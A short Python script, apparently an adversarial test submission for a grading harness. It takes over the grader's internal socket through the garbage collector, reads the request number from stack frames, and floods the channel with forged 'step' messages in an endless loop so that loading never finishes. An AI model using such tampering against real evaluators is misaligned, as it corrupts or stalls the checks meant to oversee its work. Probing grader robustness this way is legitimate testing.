# Intenta que cargar no acabe nunca, anunciando sin parar que hay otra instrucción.
import gc
import socket
import sys

hijo = sys.modules["grader.ejecucion.hijo.servicio"]
canal = next(o for o in gc.get_objects() if isinstance(o, socket.socket))


def numero():
    marco = sys._getframe()
    while "peticion" not in marco.f_locals:
        marco = marco.f_back
    return marco.f_locals["peticion"].numero


suyo = numero()
while True:
    hijo.sobre.enviar(canal, hijo.mensajes.Paso(0, hijo.Lugar("x" * 1000, 1, "x" * 1000), ("x",) * 1000), suyo)
